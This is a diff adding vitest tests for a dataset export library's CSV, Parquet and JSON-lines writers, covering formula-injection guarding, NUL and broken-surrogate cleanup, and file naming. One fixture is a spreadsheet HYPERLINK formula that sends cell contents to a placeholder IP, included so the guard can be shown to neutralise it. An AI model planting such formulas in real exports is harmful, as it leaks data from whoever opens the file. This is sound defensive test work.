@@ -1,6 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import { csvField, csvLine } from './csv';
-import { datasetsLoadCall, EXPORT_FORMATS } from './formats';
+import { dataFileName, datasetsLoadCall, EXPORT_FORMATS } from './formats';
+import { mergeRecords } from '../merge/merge';
+import { plan, rec } from '../merge/test-fixtures';
+import { parquetMetadata, parquetReadObjects } from 'hyparquet';
 import { FULL_COLUMNS, fullRow, trlConversationalRow, trlRow } from './rows';
 import { trickyMerge, writeAll } from './test-fixtures';
 import { createFormatWriter } from './writers';
@@ -98,6 +101,55 @@ describe('format writers', () => {
     expect(w.stats.bytes).toBe(new TextEncoder().encode(csv).length);
     expect(text(writeAll(createFormatWriter('csv'), []))).toBe(`${FULL_COLUMNS.map((c) => c.name).join(',')}\r\n`);
     expect(writeAll(createFormatWriter('trl'), [])).toHaveLength(0);
+  });
+
+  it('CSV: formula-like text cells get an apostrophe (or stay raw on request), NUL becomes U+FFFD, broken surrogates are counted; all in the stats', () => {
+    const rs = [rec('f1', 'A>B'), rec('f2', 'B>A'), rec('f3', 'A>B'), rec('f4', 'B>A')];
+    rs[0]!.prompt = '=HYPERLINK("http://203.0.113.9/?"&A1, "click")';
+    rs[0]!.responseA = '+1 more';
+    rs[1]!.responseA = '- a markdown list item';
+    rs[1]!.responseB = '@SUM(1+1)';
+    rs[2]!.responseA = 'nul\u0000inside';
+    rs[3]!.responseB = 'broken \ud800 text';
+    const { merged } = mergeRecords(rs, { plan: plan(), annotations: [] });
+    const guarded = createFormatWriter('csv');
+    const csv = text(writeAll(guarded, merged));
+    expect(csv).toContain(`"'=HYPERLINK(""http://203.0.113.9/?""&A1, ""click"")"`);
+    expect(csv).toContain("'+1 more");
+    expect(csv).toContain("'- a markdown list item");
+    expect(csv).toContain("'@SUM(1+1)");
+    expect(csv).not.toContain('\u0000');
+    expect(csv).toContain('nul\uFFFDinside');
+    expect(guarded.stats.textFixes).toEqual({ formulaGuarded: 4, nulReplaced: 1, loneSurrogates: 1 });
+    // A numeric cell (a negative gain) is a number, not text: never touched.
+    const raw = createFormatWriter('csv', { csvGuardFormulas: false });
+    const rawCsv = text(writeAll(raw, merged));
+    expect(rawCsv).toContain('\r\nf2,1,prompt of f2,,- a markdown list item,@SUM(1+1)');
+    expect(raw.stats.textFixes).toEqual({ formulaGuarded: 0, nulReplaced: 1, loneSurrogates: 1 });
+    // JSON lines change nothing: the surrogate stays as an escape, NUL as \u0000.
+    const full = createFormatWriter('full');
+    const lines = text(writeAll(full, merged));
+    expect(lines).toContain('broken \\ud800 text');
+    expect(lines).toContain('nul\\u0000inside');
+    expect(full.stats.textFixes).toEqual({ formulaGuarded: 0, nulReplaced: 0, loneSurrogates: 0 });
+  });
+
+  it('Parquet counts the text cells whose broken surrogates UTF-8 writes as U+FFFD', async () => {
+    const rs = [rec('s1', 'A>B'), rec('s2', 'B>A')];
+    rs[1]!.responseB = 'half \udc01 a pair';
+    const writer = createFormatWriter('parquet');
+    const bytes = writeAll(writer, mergeRecords(rs, { plan: plan(), annotations: [] }).merged);
+    expect(writer.stats.textFixes.loneSurrogates).toBe(1);
+    const file = bytes.slice().buffer;
+    const rows = await parquetReadObjects({ file, metadata: parquetMetadata(file) });
+    expect(rows[1]!.response_b).toBe('half \uFFFD a pair');
+  });
+
+  it('names the data file without repeating its extension', () => {
+    expect(dataFileName('pandalm', 'csv')).toBe('pandalm.csv');
+    expect(dataFileName('pandalm', 'parquet')).toBe('pandalm.parquet');
+    expect(dataFileName('pandalm', 'trl')).toBe('pandalm.trl.jsonl');
+    expect(dataFileName('pandalm', 'full')).toBe('pandalm.full.jsonl');
   });
 
   it('knows how datasets loads each format', () => {
